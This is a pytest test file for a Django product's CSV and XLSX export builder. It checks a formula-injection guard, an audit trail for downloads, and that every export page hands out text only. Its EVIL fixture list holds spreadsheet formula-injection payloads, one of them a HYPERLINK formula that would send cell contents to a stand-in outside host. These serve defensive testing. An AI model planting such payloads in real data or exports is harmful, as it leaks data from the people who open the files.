"""The one export builder (zhongdu/exports.py): its formula guard, translated headers, CSV and
XLSX files and the audited download; and every export page of the product, downloaded with
names that a spreadsheet would run as formulas, shown to hand out text only."""

import ast
import csv
import datetime
import io
import pathlib
from decimal import Decimal

import pytest
import tablib
from django.conf import settings
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from clientmgmt.models import Client
from consult.models import Enquiry
from guide import services as guide_services
from messaging.models import Kind, Purpose, SmsTemplate
from reports import packs
from surveys import services as survey_rounds
from surveys import services as surveys
from surveys import tasks as survey_tasks
from surveys.models import Dimension, SurveyQuestion, SurveyTemplate
from tests.clientmgmt.factories import ClientFactory, grant
from tests.consult.factories import make_enquiry
from tests.guide.factories import price, walk_in
from tests.surveys.factories import answered, satisfaction_survey
from tests.vip.factories import policy, vip
from tests.zhongdu.factories import ChannelFactory, DepartmentFactory
from zhongdu import audit, exports, roles, sms
from zhongdu.models import AuditEvent, PriceItem

ROOT = pathlib.Path(settings.BASE_DIR)
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}

# What people may type as a name (on the public /book/ page, in an import, in the admin).
EVIL = [
    "=1+1",
    "@SUM(A1)",
    "+1",
    "-1",
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
]


# --- The guard ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK(1)"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert exports.guard(text) == "'" + text
    assert exports.unguard(exports.guard(text)) == text


@pytest.mark.parametrize("value", ["张伟", "", "a=b", "'=already", "138****1234", 42, -1, None])
def test_other_values_are_written_as_they_are(value):
    assert exports.guard(value) == value


def test_unguard_leaves_a_quote_that_the_guard_did_not_add():
    assert exports.unguard("'quoted") == "'quoted"
    assert exports.unguard("''") == "''"


# --- CSV ----------------------------------------------------------------------------------


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode()), "Excel needs the BOM to open UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_csv_export_has_a_bom_a_guarded_body_and_its_footer():
    export = exports.csv_export(["Id", "Name"], [[1, "=1+1"], [2, "王芳"]], footer=[["note"]])
    assert (export.extension, export.content_type) == ("csv", exports.CSV_TYPE)
    assert _csv_rows(export.content) == [["Id", "Name"], ["1", "'=1+1"], ["2", "王芳"], ["note"]]


def test_lazy_headers_are_written_in_the_language_of_the_request():
    header = [gettext_lazy("Name"), gettext_lazy("Phone")]
    with translation.override("en"):
        english = _csv_rows(exports.csv_export(header, []).content)[0]
    with translation.override("zh-hans"):
        chinese = _csv_rows(exports.csv_export(header, []).content)[0]
    assert english == ["Name", "Phone"]
    assert chinese != english and all(chinese)


# --- XLSX ---------------------------------------------------------------------------------


def _book(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_a_workbook_keeps_every_text_as_text_and_numbers_as_numbers():
    book = exports.XlsxBook()
    with translation.override("en"):
        sheet = book.sheet(gettext_lazy("Name"))
        sheet.append([gettext_lazy("Name"), "Amount"], bold=True)
    sheet.append_rows([[text, Decimal("1.50")] for text in EVIL])
    sheet.append(["\tx", -3])
    export = book.export()
    assert (export.extension, export.content_type) == ("xlsx", exports.XLSX_TYPE)
    loaded = _book(export.content).active
    assert loaded.title == "Name"
    cells = [cell for row in loaded.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [loaded.cell(row=n, column=1).value for n in range(2, 7)] == EVIL  # as typed
    assert all(loaded.cell(row=n, column=1).quotePrefix for n in range(2, 8))
    assert loaded["B2"].value == 1.5 and loaded["B7"].value == -3
    assert loaded["A1"].font.bold and not loaded["A2"].font.bold


def test_a_character_a_workbook_cannot_hold_is_replaced_not_a_server_error():
    book = exports.XlsxBook()
    book.sheet("x").append(["张\x00三", "a\x07b"])
    assert list(_book(book.content()).active.values) == [("张\ufffd三", "a\ufffdb")]


def test_sheets_come_in_order_with_titles_cut_to_what_excel_takes():
    book = exports.XlsxBook()
    book.sheet("A" * 40)
    book.sheet("About")
    assert _book(book.content()).sheetnames == ["A" * 31, "About"]


def test_a_one_sheet_table():
    export = exports.xlsx_export("Clients", ["Id", "Name"], [[1, "=1+1"]])
    sheet = _book(export.content)["Clients"]
    assert list(sheet.values) == [("Id", "Name"), (1, "=1+1")]
    assert sheet["B2"].data_type == "s"


# --- The audited download -----------------------------------------------------------------


@pytest.mark.django_db
def test_the_audited_download_records_the_export_with_its_reason(rf, role_user):
    request = rf.get("/x/", REMOTE_ADDR="10.0.0.9")
    request.user = role_user(roles.CLIENT_MANAGER)
    export = exports.csv_export(["Id"], [[1]])
    response = exports.audited_download(
        request,
        export,
        filename="clients-20260301",
        object_type="clientmgmt.client",
        object_repr=audit.note("clientmgmt.search", kind="name", rows=1),
        reason="本月回访名单",
    )
    assert response["Content-Type"] == exports.CSV_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="clients-20260301.csv"'
    assert response.content == export.content
    event = AuditEvent.objects.get()
    assert (event.action, event.object_type, event.object_repr, event.reason) == (
        "export",
        "clientmgmt.client",
        '{"kind": "name", "note": "clientmgmt.search", "rows": 1}',
        "本月回访名单",
    )
    assert event.actor == request.user and event.ip_address == "10.0.0.9"


# --- The admin's spreadsheets (django-import-export) --------------------------------------


def _dataset():
    return tablib.Dataset(["JC001", "=1+1", Decimal("150.00")], headers=["code", "name", "price"])


def test_the_admin_csv_is_guarded_and_reads_back_as_typed():
    content = exports.AdminCSV().export_data(_dataset())
    assert _csv_rows(content.encode()) == [["code", "name", "price"], ["JC001", "'=1+1", "150.00"]]
    back = exports.AdminCSV(encoding="utf-8-sig").create_dataset(content.encode())
    assert list(back[0]) == ["JC001", "=1+1", "150.00"]


def test_the_admin_workbook_keeps_text_as_text():
    sheet = _book(exports.AdminXLSX().export_data(_dataset())).active
    assert list(sheet.values) == [("code", "name", "price"), ("JC001", "=1+1", 150)]
    assert sheet["B2"].data_type == "s"


def test_every_admin_that_exports_writes_through_the_builder(rf, role_user):
    request = rf.get("/")
    request.user = role_user(roles.ADMINISTRATOR)
    for model, model_admin in admin.site._registry.items():
        if hasattr(model_admin, "get_export_formats"):
            for format_class in model_admin.get_export_formats():
                assert issubclass(format_class, (exports.AdminCSV, exports.AdminXLSX)), model


# --- No export outside the builder --------------------------------------------------------

# Files that write CSV but hand nothing out: the COPY loader writes rows for Postgres to read.
NOT_DOWNLOADS = {"bulk.py"}
DOWNLOAD_MARKS = ("Content-Disposition", "FileResponse", "StreamingHttpResponse", "text/csv")


def _project_modules():
    for path in sorted(ROOT.rglob("*.py")):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {"tests", ".venv", "node_modules"} or "migrations" in parts:
            continue
        yield path


def test_no_module_but_the_builder_writes_a_spreadsheet_or_a_download():
    builder = ROOT / "zhongdu" / "exports.py"
    offenders = []
    for path in _project_modules():
        if path == builder:
            continue
        source = path.read_text(encoding="utf-8")
        name = str(path.relative_to(ROOT))
        offenders += [f"{name}: {mark}" for mark in DOWNLOAD_MARKS if mark in source]
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.Import):
                offenders += [
                    f"{name}: import {a.name}" for a in node.names if "openpyxl" in a.name
                ]
            elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                # Reading an uploaded workbook (an import) is not an export.
                offenders += [
                    f"{name}: openpyxl {a.name}" for a in node.names if a.name != "load_workbook"
                ]
            elif (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and path.name not in NOT_DOWNLOADS
            ):
                offenders.append(f"{name}: csv.{node.attr}")
    assert offenders == []


# --- Every export page, with names that look like formulas -------------------------------

# Every export page of the product: URL name -> (role allowed to use it, the requests to make).
# A URL whose name says "export" and is not here fails test_every_export_page_is_listed.
EXPORT_PAGES = {
    "clientmgmt:client_export": roles.CLIENT_MANAGER,
    "clientmgmt:archive_export": roles.CLIENT_MANAGER,
    "consult:stats_export": roles.MANAGER,
    "vip:vip_costs_export": roles.VIP_MANAGER,
    "surveys:weekly_export": roles.MANAGER,
    "surveys:round_export": roles.CLIENT_MANAGER,
    "guide:daily_export": roles.FRONT_DESK,
    "reports:satisfaction_export": roles.MANAGER,
    "reports:pack_export": roles.MANAGER,
    "admin:zhongdu_priceitem_export": roles.ADMINISTRATOR,
}
NOT_AUDITED = {"admin:zhongdu_priceitem_export"}  # the price list: no client data


def _url_names(resolver=None, namespace=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _url_names(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}"


def test_every_export_page_is_listed():
    found = {name for name in _url_names() if "export" in name.split(":")[-1]}
    assert found == set(EXPORT_PAGES)


def test_every_export_page_is_open_to_the_role_the_test_uses():
    for name, role in EXPORT_PAGES.items():
        if not name.startswith("admin:"):
            assert role in roles.PAGE_ACCESS[name], name


@pytest.fixture
def formula_world(db, settings):
    """Clients, channels, departments, price items, consultants' enquiries, survey answers and
    comments, a VIP's charges and a market survey round, all named like formulas."""
    settings.SMS_BACKEND = "memory"
    settings.SMS_QUIET_START_HOUR = settings.SMS_QUIET_END_HOUR = 0
    settings.PUBLIC_BASE_URL = "https://zhongdu.example"
    sms.clear()
    policy()
    satisfaction_survey()
    last_month = timezone.localdate().replace(day=1) - datetime.timedelta(days=1)
    clients, items = [], []
    for n, text in enumerate(EVIL):
        channel = ChannelFactory(name=text)
        department = DepartmentFactory(name=text[:50])
        client = ClientFactory(name=text)
        Client.objects.filter(pk=client.pk).update(source_channel=channel)
        client = Client.objects.get(pk=client.pk)
        grant(client, "marketing_sms")
        clients.append(client)
        enquiry = make_enquiry(client=client, marketing_channel=channel)
        Enquiry.objects.filter(pk=enquiry.pk).update(created_at=timezone.now())
        answered(score=1, comment=text, department=department, client=client)
        answered(
            score=2,
            comment=text,
            department=department,
            at=timezone.make_aware(datetime.datetime.combine(last_month, datetime.time(10))),
        )
        items.append(price(f"EV{n}", "100.00", name=text, category=PriceItem.Category.EXAM))
    visit = walk_in(client=clients[0])
    for item in items:
        guide_services.charge_add(visit=visit, price_item=item, by=None)
    vip(clients[0])
    market = SurveyTemplate.objects.create(code="market", name="市场调查", kind="market")
    question = SurveyQuestion.objects.create(
        template=market, order=1, text="?", type=SurveyQuestion.Type.TEXT, dimension=Dimension.OTHER
    )
    SmsTemplate.objects.create(
        code="market_survey",
        purpose=Purpose.SURVEY,
        kind=Kind.MARKETING,
        body="【{hospital}】{name}您好，诚邀您填写问卷：{link} 回复TD退订",
    )
    clerk = get_user_model().objects.create(username="round_clerk")
    survey_round = survey_rounds.round_create(
        name="冬季需求调查", template=market, segment={}, send_at=timezone.now(), by=clerk
    )
    while not survey_tasks.survey_round_send.apply(args=[survey_round.pk]).get():
        pass  # the worker's job, until every invitation is written
    for invitation, text in zip(survey_round.invitations.order_by("pk"), EVIL, strict=False):
        surveys.survey_submit(invitation=invitation, answers={question.pk: text})
    pack = packs.pack_generate(month=last_month.replace(day=1))
    yield {"clients": clients, "round": survey_round, "pack": pack}
    sms.clear()


def _requests(name, world, http):
    """The downloads of one export page: (method, url, data) for each format it offers."""
    today = timezone.localdate().isoformat()
    match name:
        case "clientmgmt:client_export":
            return [("get", reverse(name), {"q": text}) for text in EVIL]
        case "clientmgmt:archive_export":
            data = {"scope": "filtered", "reason": "核对"}
            return [("post", reverse(name), data | {"format": f}) for f in ("csv", "xlsx")]
        case "vip:vip_costs_export":
            url = reverse(name, args=[world["clients"][0].pk])
            return [("post", url, {"reason": "核对账单"})]
        case "surveys:weekly_export":
            return [("get", reverse(name), {"week": today})]
        case "surveys:round_export":
            return [("get", reverse(name, args=[world["round"].pk]), {})]
        case "guide:daily_export":
            return [("get", reverse(name), {"date": today})]
        case "reports:pack_export":
            return [("get", reverse(name, args=[world["pack"].pk]), {})]
        case "admin:zhongdu_priceitem_export":
            form = http.get(reverse(name)).context["form"]
            fields = {key: "on" for key, field in form.fields.items() if field.initial is True}
            return [("post", reverse(name), {"format": f, "resource": "0", **fields}) for f in "01"]
        case _:
            return [("get", reverse(name), {})]


def _cells(response) -> list[tuple[str, object, str]]:
    """Every cell of a downloaded file: (where, value, data type)."""
    if response["Content-Type"].startswith("text/csv"):
        rows = _csv_rows(response.content)
        return [(f"{r}:{c}", v, "s") for r, row in enumerate(rows) for c, v in enumerate(row)]
    book = _book(response.content)
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.mark.parametrize("name", sorted(EXPORT_PAGES))
def test_no_export_page_hands_out_a_formula(client_for, formula_world, name):
    http = client_for(EXPORT_PAGES[name])
    for method, url, data in _requests(name, formula_world, http):
        exported = AuditEvent.objects.filter(action="export").count()
        response = getattr(http, method)(url, data, **EN)
        assert response.status_code == 200, (url, data)
        assert response["Content-Disposition"].startswith("attachment; filename=")
        cells = _cells(response)
        csv_file = response["Content-Type"].startswith("text/csv")
        values = {value for _where, value, _type in cells}
        shown = {("'" + text if csv_file else text) for text in EVIL} & values
        assert shown, f"{url} {data}: the export holds none of the names"
        formulas = [where for where, _value, data_type in cells if data_type == "f"]
        assert formulas == [], url
        if csv_file:
            running = [
                (where, value)
                for where, value, _type in cells
                if isinstance(value, str) and value.startswith(exports.FORMULA_STARTS)
            ]
            assert running == [], url
        audited = AuditEvent.objects.filter(action="export").count() - exported
        assert audited == (0 if name in NOT_AUDITED else 1), url
